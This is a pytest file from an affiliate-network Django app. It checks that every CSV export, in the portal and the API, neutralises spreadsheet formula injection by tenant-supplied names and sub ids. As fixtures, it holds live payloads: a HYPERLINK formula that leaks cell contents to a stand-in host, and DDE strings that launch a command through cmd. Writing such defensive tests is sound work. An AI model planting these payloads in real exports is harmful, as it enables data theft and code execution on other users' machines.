"""CSV formula injection is neutralised in every CSV the product writes, portal and API alike,
by the one writer (affiliates/core/spreadsheet.py). An offer name, a goal name, a publisher
name or a sub id written by one tenant reaches another tenant's spreadsheet."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from affiliates.core.spreadsheet import csv_bytes, csv_cell, csv_line
from affiliates.models import Offer, Publisher
from affiliates.tests.signin import sign_in
from payouts.payout_build import payout_run_build, payout_run_start
from payouts.reports.services import rollups_rebuild_all
from payouts.tests.factories_payouts import CommissionFactory, approve_balance, mid
from tests.portal_data import conversion_make, payout_run_make
from tracking.tests.factories import click_make

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent
EVIL_OFFER = '=HYPERLINK("http://evil.example/?"&A1,"open")'
EVIL_PUBLISHER = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_SUB = "+1+cmd|' /C calc'!A0"
EVIL_TXN = "-2+3+cmd"
JAN = date(2024, 1, 1)
AT = datetime(2024, 1, 15, 12, tzinfo=UTC)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_a_formula_is_quoted_as_text(start) -> None:
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


def test_numbers_stay_numbers_and_plain_text_stays_plain() -> None:
    assert csv_cell(Decimal("-12.50")) == "-12.50"
    assert csv_cell("-12.50") == "-12.50"  # an amount already written as text
    assert csv_cell(-3) == "-3"
    assert csv_cell("Acme - Summer") == "Acme - Summer"
    assert csv_cell(None) == ""
    assert csv_line(["a,b", '=1"2']) == '"a,b","\'=1""2"\r\n'
    assert csv_bytes(["h"], [["=x"]]) == b"h\r\n'=x\r\n"


def test_every_csv_in_the_product_is_written_by_the_one_helper() -> None:
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for app in ("affiliates", "tracking", "payouts", "config")
        for path in (ROOT / app).rglob("*.py")
        if "tests" not in path.parts
        and path.name != "spreadsheet.py"
        and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def _cells(body: bytes | str) -> list[str]:
    text = body.decode("utf-8") if isinstance(body, bytes) else body
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutralised(body: bytes | str, *evil: str) -> None:
    cells = _cells(body)
    for text in evil:
        assert f"'{text}" in cells, (text, cells)
        assert text not in cells


def _client(user: Any) -> Client:
    client = Client()
    sign_in(client, user)
    return client


@pytest.fixture
def evil(shoes: Offer, pixelpush: Publisher, shoes_link: Any) -> None:
    """Names and ids written by tenants and traffic, each starting a formula."""
    Offer.objects.filter(pk=shoes.pk).update(name=EVIL_OFFER)
    Publisher.objects.filter(pk=pixelpush.pk).update(name=EVIL_PUBLISHER)
    shoes.refresh_from_db()
    click = click_make(shoes, pixelpush, at=AT, sub1=EVIL_SUB)
    conversion_make(click=click, txn_id=EVIL_TXN, status="approved", at=AT)


def _streamed(response: Any) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def test_the_portal_conversion_csv(pia, ada, evil) -> None:
    for user, url in ((pia, "/publisher/conversions/"), (ada, "/advertiser/conversions/")):
        body = _streamed(_client(user).get(url + "?format=csv"))
        _assert_neutralised(body, EVIL_OFFER, EVIL_SUB, EVIL_TXN)


def test_the_report_csv_in_the_portal_and_the_api(pia, ada, nadia, api_as, evil) -> None:
    rollups_rebuild_all(start=datetime(2024, 1, 1, tzinfo=UTC), end=datetime(2024, 1, 31, tzinfo=UTC))
    query = "start=2024-01-01&end=2024-01-31&tz=UTC"
    body = _client(ada).get(f"/reports/?{query}&group_by=offer&format=csv").content
    _assert_neutralised(body, EVIL_OFFER)
    body = _client(pia).get(f"/reports/?{query}&group_by=sub1&format=csv").content
    _assert_neutralised(body, EVIL_SUB)
    api = api_as(nadia)
    body = api.get(f"/api/v1/reports/?{query}&group_by=offer,publisher&format=csv").content
    _assert_neutralised(body, EVIL_OFFER, EVIL_PUBLISHER)


def test_the_portal_statement_csv(pia, evil, pixelpush) -> None:
    run = payout_run_make(period=JAN, publisher=pixelpush, amount=Decimal("8.00"))
    body = _client(pia).get(f"/publisher/payouts/{run.payouts.get().pk}/statement.csv").content
    _assert_neutralised(body, EVIL_OFFER)


def test_the_api_statement_and_invoice_csv(pia, ada, nadia, api_as, shoes, pixelpush, evil, settings) -> None:
    settings.ISSUER_LEGAL_NAME, settings.ISSUER_ADDRESS = "Affnet Networks Ltd", "1 Grand Canal Square"
    settings.ISSUER_COUNTRY, settings.ISSUER_TAX_ID = "IE", "IE6388047V"
    goal = shoes.goals.get(code="lead")
    CommissionFactory(offer=shoes, goal=goal, publisher=pixelpush, day=date(2024, 1, 10))
    approve_balance(pixelpush, "10.00", at=mid(JAN), advertiser=shoes.advertiser)
    body = api_as(pia).get("/api/v1/statements/?period=2024-01&format=csv").content
    _assert_neutralised(body, EVIL_OFFER)
    issued = api_as(nadia).post(
        "/api/v1/documents/issue-invoice/",
        {"advertiser": shoes.advertiser_id, "period": "2024-01"},
        format="json",
    )
    assert issued.status_code in (200, 201), issued.content
    invoice = issued.json()["invoice"]
    body = api_as(ada).get(f"/api/v1/documents/{invoice['id']}/csv/").content
    # The invoice line's description starts with the offer's name: neutralised, whatever follows.
    cells = _cells(body)
    assert any(c.startswith(f"'{EVIL_OFFER}") for c in cells), cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


def test_the_payout_file(nadia, api_as, pixelpush, evil) -> None:
    approve_balance(pixelpush, "120.00", at=mid(JAN))
    run, _ = payout_run_start(period=JAN)
    payout_run_build(run_id=run.pk)
    body = api_as(nadia).get(f"/api/v1/payout-runs/{run.pk}/file/").content
    _assert_neutralised(body, EVIL_PUBLISHER)
